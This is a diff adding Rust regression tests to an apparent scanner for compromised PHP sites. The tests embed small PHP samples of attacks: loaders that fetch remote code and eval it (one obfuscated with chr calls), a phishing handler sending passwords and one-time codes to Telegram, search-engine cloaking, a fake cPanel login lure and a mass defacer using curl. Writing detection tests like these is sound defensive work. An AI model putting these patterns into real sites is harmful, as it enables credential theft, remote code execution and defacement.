@@ -1399,4 +1399,104 @@ mod tests {
         let kept = format!("<?php\n$code = '{cloaker}';\nfile_put_contents('cache/x.txt', 'x');\n");
         assert!(!whys("wp/cache.php", &kept).contains(&Why::InjectsHiddenCode));
     }
+
+    #[test]
+    fn an_address_assembled_from_pieces_or_interpolated_is_read_as_another_sites() {
+        // Regression: fresh83's loader with Japanese names builds `https://rentry.co/…/raw` from
+        // variables and a string with two names in it; the address was not known, so `fopen`
+        // of it was no download.
+        let pieces = "<?php $p = 'https'; $d = 'rentry.co'; $e = 'x'; $path = \"/$e/raw\";\n\
+            $u = $p . '://' . $d . $path; $fp = fopen($u, 'r'); $s = stream_get_contents($fp); eval('?>' . $s);";
+        assert!(whys("a.php", pieces).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", pieces));
+        let interpolated = "<?php $h = 'rentry.co'; $s = file_get_contents(\"https://$h/x/raw\"); eval('?>' . $s);";
+        assert!(whys("a.php", interpolated).contains(&Why::CodeFromInternet));
+        // An address after a folder, or a local path, is not another site's.
+        let local = "<?php $s = file_get_contents($dir . 'https://x'); eval('?>' . $s);";
+        assert!(!whys("a.php", local).contains(&Why::CodeFromInternet));
+        let folder = "<?php $f = '/var/cache/' . $name; $s = file_get_contents($f); eval('?>' . $s);";
+        assert!(!whys("a.php", folder).contains(&Why::CodeFromInternet));
+    }
+
+    #[test]
+    fn a_code_hosts_script_run_as_a_page_is_code_from_the_internet() {
+        // Regression: fresh83's loader names its fetching functions with `chr` calls; only the
+        // GitHub address and `eval("?>" . $code)` are written.
+        let loader = "<?php $a = 'https://raw.githubusercontent.com/x/y/refs/heads/master/z.php'; \
+            $f = chr(102) . chr(105); $code = $f($a); if ($code !== false) { eval(\"?>\" . $code); }";
+        assert!(whys("a.php", loader).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", loader));
+        // A link to a script on GitHub in a page that runs nothing.
+        let link = "<?php echo '<a href=\"https://raw.githubusercontent.com/x/y/main/install.php\">get it</a>';";
+        assert!(whys("a.php", link).is_empty());
+    }
+
+    #[test]
+    fn a_secret_typed_by_the_visitor_sent_to_a_chat_bot_is_collected() {
+        // Regression: fresh83's bank kit sends the password and the one-time code to Telegram,
+        // in Markdown (`*Password:* {$password}`, `*Code:* `{$code}``).
+        let otp = "<?php $bot = '1:abc'; $code = trim($_POST['twoFactAuthConfCode']);\n\
+            $message = \"*Code:* `{$code}`\";\n\
+            file_get_contents(\"https://api.telegram.org/bot{$bot}/sendMessage?\" . http_build_query(['text' => $message]));\n\
+            header('Location: done.html');";
+        assert_eq!(whys("otp.php", otp), [Why::CredentialCollector]);
+        let login = "<?php $email = $_POST['username']; $password = $_POST['password'];\n\
+            $m = \"*Email:* {$email}\\n\"; $m .= \"*Password:* {$password}\\n\";\n\
+            $ch = curl_init('https://api.telegram.org/bot1:a/sendMessage'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['text' => $m]); curl_exec($ch);";
+        assert_eq!(whys("login.php", login), [Why::CredentialCollector]);
+        // A contact form posted to the owner's chat bot asks for no secret.
+        let contact = "<?php $name = $_POST['name']; $msg = $_POST['message'];\n\
+            $text = \"*Name:* {$name}\\n*Message:* {$msg}\";\n\
+            file_get_contents('https://api.telegram.org/bot1:a/sendMessage?' . http_build_query(['text' => $text]));\n\
+            header('Location: thanks.html');";
+        assert!(whys("contact.php", contact).is_empty(), "{:?}", whys("contact.php", contact));
+    }
+
+    #[test]
+    fn a_php_files_text_printed_to_crawlers_is_cloaking() {
+        // Regression: fresh83's and fresh82's cloakers show Googlebot a file's text (`pp.php`,
+        // `config.js`) and include the site for everyone else.
+        let cloaker = "<?php function is_bot() { foreach (array('Googlebot', 'Google-InspectionTool') as $a) {\n\
+            if (strpos($_SERVER['HTTP_USER_AGENT'], $a) !== false) return true; } return false; }\n\
+            if (is_bot()) { $page = file_get_contents('/home/u1/public_html/pp.php'); echo $page; exit; }\n\
+            else { include('main.php'); exit; }";
+        assert!(whys("index.php", cloaker).contains(&Why::SearchEngineCloaking), "{:?}", whys("index.php", cloaker));
+        // A single-page application's snapshot for crawlers is a page.
+        let snapshot = cloaker.replace("/home/u1/public_html/pp.php", "snapshots/home.html");
+        assert!(!whys("index.php", &snapshot).contains(&Why::SearchEngineCloaking));
+    }
+
+    #[test]
+    fn cpanels_port_as_a_query_is_a_fake_cpanel_login() {
+        // Regression: fresh83's `wp-login.php` sends administrators to `/?:2083`, where the hooked
+        // `index.php` shows Alfa's fake cPanel login.
+        let lure = "<?php $u = \"https://example.gov/?:2083\"; header(\"Refresh: 2; URL=$u\");";
+        assert_eq!(whys("wp-login.php", lure), [Why::PhishingPage]);
+        // A link to the account's own cPanel.
+        let link = "<?php echo '<a href=\"https://example.com:2083/\">cPanel</a>';";
+        assert!(whys("links.php", link).is_empty());
+    }
+
+    #[test]
+    fn a_page_downloaded_into_every_folders_home_page_is_a_mass_defacer() {
+        // Regression: fresh84's defacer walks the document root and has curl append its page to
+        // each folder's `index.php`.
+        let defacer = "<?php $root = $_SERVER['DOCUMENT_ROOT']; foreach (scandir($root) as $d) {\n\
+            if (is_dir(\"$root/$d\")) { $f = $root . '/' . $d . '/' . 'index.php';\n\
+            shell_exec('curl https://example.net/page.html >> ' . $f); } }";
+        assert!(whys("x.php", defacer).contains(&Why::MassDefacer), "{:?}", whys("x.php", defacer));
+        // An updater downloading an archive into one folder.
+        let updater = "<?php foreach (scandir($dir) as $d) { echo $d; }\n\
+            shell_exec('wget -O /tmp/latest.zip https://wordpress.org/latest.zip');";
+        assert!(!whys("x.php", updater).contains(&Why::MassDefacer));
+    }
+
+    #[test]
+    fn a_file_without_an_ending_required_from_the_home_folder_is_data_run_as_code() {
+        // Regression: fresh82's OJS bootstrap requires `/home3/edu38800/bash`.
+        let boot = "<?php require('/home3/edu38800/bash'); define('X', 1); require('./lib/functions.inc.php');";
+        assert_eq!(whys("includes/bootstrap.inc.php", boot), [Why::IncludeOfData]);
+        for own in ["/home/u1/public_html/wp-load.php", "/home/u1/config.php", "/home/u1/lib/vendor"] {
+            let src = format!("<?php require('{own}');");
+            assert!(whys("a.php", &src).is_empty(), "{own}");
+        }
+    }
 }
